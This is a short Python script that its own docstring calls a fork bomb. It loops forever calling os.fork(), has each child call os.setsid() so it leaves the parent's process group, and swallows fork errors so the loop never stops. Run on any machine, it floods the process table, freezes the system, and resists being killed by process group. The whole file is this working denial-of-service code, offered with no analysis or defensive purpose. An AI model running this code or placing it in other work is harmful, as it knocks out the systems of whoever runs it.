"""As a fork bomb, and each process leaves the group of the one that started it."""

import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
